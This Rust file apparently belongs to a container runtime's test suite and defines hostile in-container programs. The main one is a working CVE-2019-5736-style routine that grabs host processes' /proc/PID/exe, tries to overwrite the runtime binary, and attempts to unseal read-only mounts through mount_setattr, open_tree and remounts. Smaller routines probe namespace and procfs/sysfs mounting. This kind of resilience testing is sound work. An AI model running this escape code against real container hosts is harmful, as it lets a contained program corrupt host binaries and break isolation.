//! What a hostile program does to the runtime that enters its container.

use serde_json::json;
use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

/// How long the attack goes on.
const TIME: Duration = Duration::from_secs(4);

/// CVE-2019-5736: takes hold of the program of every process that turns up, and
/// tries to write to it for as long as it can be held; where it is on a mount that
/// forbids that, to change or to clone the mount. Says what came of it.
pub fn overwrite() {
    println!("ready");
    let own = fs::read_link("/proc/self/exe").expect("our own program");
    let mut held: BTreeMap<u32, File> = BTreeMap::new();
    let (mut seen, mut tried) = (0, 0);
    let mut written: Vec<String> = Vec::new();
    let mut unwrapped: Vec<&str> = Vec::new();
    let start = Instant::now();
    while start.elapsed() < TIME {
        for pid in processes() {
            let exe = format!("/proc/{pid}/exe");
            let foreign = fs::read_link(&exe).is_ok_and(|link| link != own);
            if foreign && !held.contains_key(&pid) {
                seen += 1;
                if let Ok(file) = File::open(&exe) {
                    if !is_mounted_here(&file) {
                        unwrapped.extend(unwrap(&file));
                    }
                    held.insert(pid, file);
                }
            }
        }
        for file in held.values() {
            tried += 1;
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            // Without truncating first: what is sealed may be opened all the same.
            let Ok(mut file) = OpenOptions::new().write(true).open(&path) else { continue };
            if file.write_all(b"#!/bin/false\n").is_ok() || file.set_len(0).is_ok() {
                written.push(fs::read_link(&path).map_or(path, |l| l.display().to_string()));
            }
        }
        if tried % 1000 == 0 {
            std::thread::yield_now();
        }
    }
    let held = held.len();
    println!(
        "{}",
        json!({"seen": seen, "held": held, "tried": tried, "written": written,
               "unwrapped": unwrapped})
    );
}

/// Whether the file's mount is one of the container's own.
fn is_mounted_here(file: &File) -> bool {
    let info = fs::read_to_string(format!("/proc/self/fdinfo/{}", file.as_raw_fd()));
    let mounts = fs::read_to_string("/proc/self/mountinfo");
    let (info, mounts) = (info.unwrap_or_default(), mounts.unwrap_or_default());
    let id = info.lines().find_map(|line| line.strip_prefix("mnt_id:")).unwrap_or("").trim();
    mounts.lines().any(|line| line.split(' ').next() == Some(id))
}

/// What of the file's mount can be changed, and in which ways it can be had again.
fn unwrap(file: &File) -> Vec<&'static str> {
    let fd = file.as_raw_fd();
    let path = format!("/proc/self/fd/{fd}\0");
    // attr_set, attr_clr, propagation, userns_fd of mount_setattr(2).
    let writable = [0, libc::MOUNT_ATTR_RDONLY, 0, 0];
    let set = |fd: i32| {
        let size = size_of_val(&writable);
        // SAFETY: the path and the structure live across the call.
        unsafe {
            let (empty, at) = (c"".as_ptr(), writable.as_ptr());
            libc::syscall(libc::SYS_mount_setattr, fd, empty, libc::AT_EMPTY_PATH, at, size) == 0
        }
    };
    let clone = libc::OPEN_TREE_CLONE as i32 | libc::AT_EMPTY_PATH;
    // SAFETY: as above; a descriptor that is got stays open for the process's life.
    let clone = unsafe { libc::syscall(libc::SYS_open_tree, fd, c"".as_ptr(), clone) } as i32;
    let mount = |source: *const libc::c_char, target: *const libc::c_char, flags| {
        // SAFETY: as above.
        unsafe { libc::mount(source, target, std::ptr::null(), flags, std::ptr::null()) == 0 }
    };
    let own = path.as_ptr().cast();
    let remount = libc::MS_REMOUNT | libc::MS_BIND;
    let ways = [
        ("mount_setattr", set(fd)),
        ("open_tree", clone >= 0),
        ("remount", mount(std::ptr::null(), own, remount)),
        ("bind", mount(own, c"/bin/true".as_ptr(), libc::MS_BIND)),
    ];
    ways.into_iter().filter(|(_, works)| *works).map(|(way, _)| way).collect()
}

fn processes() -> Vec<u32> {
    let Ok(entries) = fs::read_dir("/proc") else { return Vec::new() };
    let names = entries.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned());
    names.filter_map(|name| name.parse().ok()).filter(|pid| *pid != std::process::id()).collect()
}

/// What an ordinary user may do in namespaces of its own: mounts a new procfs and a new
/// sysfs there, and says what the kernel thinks of it.
pub fn mount_afresh() {
    let flags = libc::CLONE_NEWUSER | libc::CLONE_NEWNS | libc::CLONE_NEWPID | libc::CLONE_NEWNET;
    // SAFETY: takes a number; this process has one thread.
    if unsafe { libc::unshare(flags) } != 0 {
        println!("{}", json!({"unshare": std::io::Error::last_os_error().to_string()}));
        return;
    }
    // SAFETY: this process has one thread.
    match unsafe { libc::fork() } {
        0 => {}
        child => {
            // SAFETY: no status is asked for.
            unsafe { libc::waitpid(child, std::ptr::null_mut(), 0) };
            return;
        }
    }
    let said = ["proc", "sysfs"].map(|fstype| {
        let fstype = std::ffi::CString::new(fstype).expect("no null byte");
        let at = c"/dev/shm".as_ptr();
        // SAFETY: the texts live across the call; there are no data.
        let result = unsafe { libc::mount(fstype.as_ptr(), at, fstype.as_ptr(), 0, std::ptr::null()) };
        match result {
            0 => "mounted".to_string(),
            _ => std::io::Error::last_os_error().to_string(),
        }
    });
    println!("{}", json!({"proc": said[0], "sysfs": said[1]}));
}

/// Goes into a user namespace of its own and stays there.
pub fn leave_user() {
    // SAFETY: takes a number; this process has one thread.
    let left = unsafe { libc::unshare(libc::CLONE_NEWUSER) };
    println!("{}", if left == 0 { "ready" } else { "refused" });
    std::thread::sleep(Duration::from_secs(1000));
}
